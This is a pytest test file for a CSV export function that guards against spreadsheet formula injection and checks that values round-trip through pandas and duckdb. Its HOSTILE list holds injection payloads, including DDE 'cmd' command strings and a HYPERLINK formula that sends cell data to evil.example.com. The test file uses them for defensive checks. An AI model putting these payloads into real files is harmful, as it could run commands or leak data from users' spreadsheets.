"""CSV files: what spreadsheets and other programs read, and that they run no cell."""

from __future__ import annotations

import csv
import datetime as dt
import decimal
import io
import re
from pathlib import Path

import duckdb
import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import buildframe as bf
from tests.refusals import wrong_refusals

HOSTILE = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example.com?x="&A1,"click")', "=WEBSERVICE(A1)", "==1", "=",
    "+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd|' /C calc'!A0", "@", "-", "+",
    "\t=1+1", "\t", "\r=1+1", "\n=1+1", "\r\n=1+1", "\t\t-1", "\n", " =1+1", "\u00a0=1+1", "\u3000+1", "\u200b=1",
    "\ufeff=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", " ＝1", "'=1+1", "''=1", "'\t=1", "' =1", "'@x", "a;=1+1",
    "a;=1+1;", "a\t=1+1", "a\n=1+1", "a\r\n-1", "a; =1+1", "a;'=1", ";=1", "x\n\n=1", '"=1+1"', '";=1+1;"', 'a";=1',
    'a";"=1+1', ';""=1;',
    "=1\0+1", "\0=1", "=é😀", "-;-\n-\t-", "=" * 300,
]  # fmt: skip
HARMLESS = [
    "", "a", "1", "a=b", "a+b", "a-b", "a@example.com", "fix: a - b", "'quoted'", "it's", "a,b", 'say "yes"', "a\nb",
    "a\r\nb", " padded ", "é😀", "1;2", "#REF!", "%0A", "null", "NA",
]  # fmt: skip
RUNS = tuple("=+-@＝＋－＠\t\r\n")
DONE = re.compile("(^|[;\t\r\n])'(?='*[\" \u00a0\u3000\u200b\ufeff]*[=+\\-@＝＋－＠])|^'(?='*[\t\r\n])")


def undone(text: str) -> str:
    """As docs/exporting.md describes it."""
    return DONE.sub(r"\1", text)


def saved(folder: Path, frame: pd.DataFrame) -> str:
    path = bf.save(folder / "t.csv", frame)
    assert [file.name for file in folder.iterdir()] == ["t.csv"]
    return path.read_bytes().decode("utf-8")


def cells(text: str, separator: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))


def texts(values: list[str | None]) -> pd.DataFrame:
    return pd.DataFrame({"text": pd.Series(values, dtype="str"), "n": range(len(values))})


def test_load_says_how_csv_is_read(tmp_path: Path) -> None:
    bf.save(tmp_path / "a.csv", pd.DataFrame({"a": [1]}))
    with pytest.raises(bf.BadInput, match=r"pandas\.read_csv"):
        bf.load(tmp_path / "a.csv")


def formulas(written: str) -> list[str]:
    """Cells that a program may run, whatever separator it takes."""
    found = []
    for separator in (",", ";", "\t"):
        found += [cell for row in cells(written, separator) for cell in row]
        found += re.split(f"[\r\n{separator}]", written) if separator != "," else []  # as where quotes are not seen
    begins = [cell for cell in found if cell.lstrip('" \u00a0\u3000\u200b\ufeff').startswith(RUNS[:-3])]
    return [*begins, *(cell for row in cells(written)[1:] for cell in row if cell.startswith(RUNS))]


def test_no_cell_begins_as_a_formula_whatever_the_separator_is(tmp_path: Path) -> None:
    found = {}
    for text in HOSTILE:
        frame = pd.DataFrame({"n": [1, 2], "text": pd.Series(["x", text], dtype="str"), "other": ["x", text]})
        found[text] = formulas(saved(tmp_path, frame))
    assert {text: cells for text, cells in found.items() if cells} == {}


def test_texts_come_back_by_every_reader(tmp_path: Path) -> None:
    changed = {}
    for text in [*HOSTILE, *HARMLESS]:
        written = saved(tmp_path, pd.DataFrame({"text": pd.Series([text, None, "end"], dtype="str")}))
        whole = text.replace("\0", "\ufffd")
        by_pandas = pd.read_csv(tmp_path / "t.csv", dtype="str", keep_default_na=False, skip_blank_lines=False)["text"]
        by_duckdb = duckdb.sql(f"from read_csv('{tmp_path}/t.csv', all_varchar=true, parallel=false)").fetchall()
        is_unchanged = text not in HARMLESS or cells(written)[1] == [text]
        read = ([undone(cell) for cell in by_pandas], undone(by_duckdb[0][0] or ""), is_unchanged)
        if read != ([whole, "", "end"], whole, True):
            changed[text] = read
    assert changed == {}


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.text("a'\"=-;,\t\r\n ＝\u200b\0é") | st.text(st.characters(exclude_categories=["Cs"])), max_size=8))
def test_any_texts_come_back_and_none_runs(tmp_path: Path, values: list[str]) -> None:
    written = saved(tmp_path, pd.DataFrame({"text": pd.Series(values, dtype="str"), "n": range(len(values))}))
    rows = list(csv.reader(io.StringIO(written, newline="")))
    assert [undone(row[0]) for row in rows[1:]] == [value.replace("\0", "\ufffd") for value in values]
    assert [row[1] for row in rows[1:]] == [str(n) for n in range(len(values))]
    assert not [row[0] for row in rows if row[0].startswith(RUNS)]


def test_each_kind_of_value_has_one_form(tmp_path: Path) -> None:
    moments = pd.Series(["2026-03-29T00:30:00.123456Z", None, "1969-12-31T23:59:59Z"], dtype="datetime64[us, UTC]")
    frame = pd.DataFrame(
        {
            "number": pd.array([-1, None, 2**62 + 1], dtype="Int64"),
            "share": [-0.5, np.nan, np.inf],
            "flag": pd.array([True, None, False], dtype="boolean"),
            "moment": moments,
            "there": moments.dt.tz_convert("Europe/Berlin"),
            "naive": moments.dt.tz_localize(None),
            "queued": pd.Series([-1, None, 90_500_000], dtype="timedelta64[us]"),
            "day": pd.Series([dt.date(2026, 3, 29), None, dt.date(1969, 1, 1)]),
            "exact": pd.Series([decimal.Decimal("1.50"), None, decimal.Decimal("-2.25")]),
            "kind": pd.Categorical(["=a", None, "b"]),
            "nothing": [None, None, None],
        }
    )
    assert saved(tmp_path, frame) == (
        '"number","share","flag","moment","there","naive","queued_s","day","exact","kind","nothing"\n'
        '-1,-0.5,true,"2026-03-29T00:30:00.123456Z","2026-03-29T00:30:00.123456Z","2026-03-29T00:30:00.123456",'
        '-0.000001,2026-03-29,1.50,"\'=a",\n'
        ",,,,,,,,,,\n"
        '4611686018427387905,inf,false,"1969-12-31T23:59:59.000000Z","1969-12-31T23:59:59.000000Z",'
        '"1969-12-31T23:59:59.000000",90.5,1969-01-01,-2.25,"b",\n'
    )


def test_headers_and_named_index_levels_are_made_harmless_too(tmp_path: Path) -> None:
    frame = pd.DataFrame({"=a": [1, 2], "b\n=c": [3, 4]}, index=pd.Index(["=x", "y"], name="@key"))
    frame.attrs = {"not": {"plain"}}  # which CSV does not hold
    assert cells(saved(tmp_path, frame)) == [["'@key", "'=a", "b\n'=c"], ["'=x", "1", "3"], ["y", "2", "4"]]
    several = frame.set_index(pd.MultiIndex.from_tuples([("p", 1), ("q", 2)], names=["pipeline", None]))
    assert cells(saved(tmp_path, several))[0] == ["pipeline", "'=a", "b\n'=c"]


@pytest.mark.parametrize("rows", [0, 45_001])
def test_rows_of_all_batches_are_there_once_under_one_header(tmp_path: Path, rows: int) -> None:
    frame = texts([f"-{n}" if n % 7 == 0 else None for n in range(rows)])
    path = bf.save(tmp_path / "T.CSV", frame.iloc[::-1])  # whose index has no name
    read = pd.read_csv(path, dtype={"text": "str"})
    assert list(read.columns) == ["text", "n"]
    assert read["n"].tolist() == list(reversed(range(rows)))
    assert read["text"].str.removeprefix("'").fillna("").tolist() == frame["text"].fillna("").tolist()[::-1]


def test_lists_and_objects_become_json(tmp_path: Path) -> None:
    frame = pd.DataFrame({"list": [[1, 2], None], "object": [{"a": "=1"}, {"a": "é"}], "text": [["x\n=1"], []]})
    assert saved(tmp_path, frame).splitlines()[1:] == [
        '"[1,2]","{""a"":""=1""}","[""x\\n=1""]"',
        ',"{""a"":""é""}","[]"',
    ]


REFUSED = {
    "bytes in a list": (pd.DataFrame({"a": [[b"x"]]}), "CSV"),
    "bytes": (pd.DataFrame({"a": [b"=1"]}), "bytes"),
    "two types": (pd.DataFrame({"a": ["x", 1]}), "CSV"),
    "half of a character": (pd.DataFrame({"a": ["\ud800"]}, dtype=object), "CSV"),
    "two columns of a name": (pd.DataFrame([[1, 2]], columns=["a", "a"]), "CSV"),
    "two headers that become one": (pd.DataFrame({"a": [pd.Timedelta("1s")], "a_s": [1]}), "same header"),
    "an index and a column of a name": (pd.DataFrame({"a": [1]}, index=pd.Index([1], name="a")), "CSV"),
    "a number as name": (pd.DataFrame({0: [1]}), "must be a string"),
    "a Series": (pd.DataFrame({"a": [1]})["a"], "frame=<Series>"),
}


def test_what_does_not_fit_is_refused_and_the_old_file_stays(tmp_path: Path) -> None:
    before = saved(tmp_path, texts(["old"]))
    cases = [(name, words) for name, (_, words) in REFUSED.items()]
    assert wrong_refusals(cases, lambda name: bf.save(tmp_path / "t.csv", REFUSED[name][0])) == {}
    assert [path.read_bytes().decode() for path in tmp_path.iterdir()] == [before]


def test_other_names_are_parquet_as_before(tmp_path: Path) -> None:
    for name in ("t", "t.parquet", "t.csv.parquet", "t.of-may"):
        assert bf.save(tmp_path / name, texts(["=1"])).read_bytes()[:4] == b"PAR1"
